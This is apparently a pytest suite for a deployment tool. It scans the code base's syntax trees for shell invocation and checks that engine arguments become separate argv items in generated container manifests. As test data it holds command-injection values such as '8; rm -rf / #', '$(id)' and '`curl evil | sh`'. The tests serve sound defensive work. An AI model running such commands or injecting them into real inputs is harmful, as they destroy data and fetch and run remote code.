"""No shell anywhere between a user's input and a process's or container's argv.

Reads the code base's syntax trees (not its text, so comments and strings do not
count) for shell=True, os.system, os.popen and subprocess calls given one string;
then checks that every custom engine argument lands in the manifest as separate
argv items, with no `sh -c` in any generated container.
"""

from __future__ import annotations

import ast
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from dynamote_core.catalog import Catalog, load_catalog
from dynamote_core.config import validate_config
from dynamote_core.manifest import build_graph_deployment

ROOT = Path(__file__).resolve().parents[2]
SOURCE_DIRS = ("dynamote_core", "ui", "views", "pages", "bench")
SHELLS = {"sh", "bash", "zsh", "dash", "/bin/sh", "/bin/bash", "/usr/bin/env"}
SUBPROCESS_CALLS = {"run", "call", "check_call", "check_output", "Popen", "getoutput"}


def python_files() -> list[Path]:
    files = [ROOT / "app.py"]
    for folder in SOURCE_DIRS:
        files += sorted((ROOT / folder).rglob("*.py"))
    for script in sorted((ROOT / "scripts").iterdir()):
        if script.suffix == ".py" or _has_python_shebang(script):
            files.append(script)
    return [path for path in files if path.is_file()]


def _has_python_shebang(path: Path) -> bool:
    if not path.is_file():
        return False
    first = path.read_bytes().split(b"\n", 1)[0]
    return first.startswith(b"#!") and b"python" in first


def find_shell_uses(tree: ast.AST) -> Iterator[tuple[int, str]]:
    """(line, what) for each call that would hand a string to a shell."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = _dotted_name(node.func)
        for keyword in node.keywords:
            if keyword.arg == "shell" and not _is_false(keyword.value):
                yield node.lineno, f"{name}(shell=...)"
        if name in {"os.system", "os.popen", "os.popen2", "commands.getoutput"}:
            yield node.lineno, name
        if name.split(".")[-1] in SUBPROCESS_CALLS and "subprocess" in name:
            first = node.args[0] if node.args else None
            if first is not None and _is_string_expression(first):
                yield node.lineno, f"{name} with a string command"
            if name.endswith(("getoutput", "getstatusoutput")):
                yield node.lineno, name


def _dotted_name(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted_name(node.value)}.{node.attr}"
    return ""


def _is_false(node: ast.AST) -> bool:
    return isinstance(node, ast.Constant) and node.value is False


def _is_string_expression(node: ast.AST) -> bool:
    if isinstance(node, ast.Constant):
        return isinstance(node.value, str)
    if isinstance(node, ast.JoinedStr):
        return True
    return isinstance(node, ast.BinOp) and (
        _is_string_expression(node.left) or _is_string_expression(node.right)
    )


def test_the_scan_covers_the_app_and_the_library() -> None:
    scanned = {path.relative_to(ROOT).parts[0] for path in python_files()}

    assert {"app.py", "dynamote_core", "ui", "views", "scripts"} <= scanned


@pytest.mark.parametrize(
    "code",
    [
        "subprocess.run('ls', shell=True)",
        "subprocess.run(['ls'], shell=flag)",
        "os.system('ls')",
        "os.popen('ls')",
        "subprocess.check_output(f'ls {path}')",
        "subprocess.Popen('ls ' + path)",
        "subprocess.getoutput('ls')",
    ],
)
def test_the_scan_catches_each_shell_form(code: str) -> None:
    uses = list(find_shell_uses(ast.parse(code)))

    assert uses


def test_argv_lists_pass_the_scan() -> None:
    code = "subprocess.run(['kubectl', 'get', name], shell=False, check=True)"

    assert list(find_shell_uses(ast.parse(code))) == []


def test_no_code_hands_a_string_to_a_shell() -> None:
    found = [
        f"{path.relative_to(ROOT)}:{line}: {what}"
        for path in python_files()
        for line, what in find_shell_uses(ast.parse(path.read_text(), str(path)))
    ]

    assert found == []


# ---------------------------------------------------------------- manifests

HOSTILE_VALUES = {
    "max-num-seqs": "8; rm -rf / #",
    "block-size": "$(id)",
    "chat-template": "`curl evil | sh`\n&& echo pwned",
    "speculative-config": {"method": "ngram", "note": "' ; sh -c 'id"},
    "enable-chunked-prefill": True,
}

# Each flag and each value one argv item, in the order written; true is a bare
# flag, a mapping is compact JSON (false is refused by validation). Written out by
# hand.
EXPECTED_TAIL = [
    "--max-num-seqs",
    "8; rm -rf / #",
    "--block-size",
    "$(id)",
    "--chat-template",
    "`curl evil | sh`\n&& echo pwned",
    "--speculative-config",
    '{"method":"ngram","note":"\' ; sh -c \'id"}',
    "--enable-chunked-prefill",
]


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return load_catalog()


def containers(manifest: dict[str, Any]) -> Iterator[dict[str, Any]]:
    spec = manifest["spec"]
    for component in spec.get("components", []):
        yield from component["podTemplate"]["spec"]["containers"]
    for service in spec.get("services", {}).values():
        yield service["extraPodSpec"]["mainContainer"]


@pytest.mark.parametrize("api_version", ["v1beta1", "v1alpha1"])
@pytest.mark.parametrize("mode", ["aggregated", "disaggregated"])
@pytest.mark.parametrize("engine", ["vllm", "sglang", "trtllm"])
def test_engine_args_become_separate_argv_items(
    catalog: Catalog, engine: str, mode: str, api_version: str
) -> None:
    values = {
        "name": "argv-check",
        "namespace": "default",
        "model_id": "Qwen/Qwen3-0.6B",
        "engine": engine,
        "mode": mode,
        "engine_args": json.dumps(HOSTILE_VALUES),
    }
    config = validate_config(values, catalog)

    manifest = build_graph_deployment(config, catalog.get(config.model_id), api_version)

    workers = [c for c in containers(manifest) if "dynamo.frontend" not in c["args"]]
    assert workers
    for container in containers(manifest):
        assert container["command"][0] not in SHELLS
        assert "-c" not in container["command"] + container["args"][:1]
        assert all(isinstance(item, str) for item in container["args"])
    for container in workers:
        assert container["args"][-len(EXPECTED_TAIL) :] == EXPECTED_TAIL
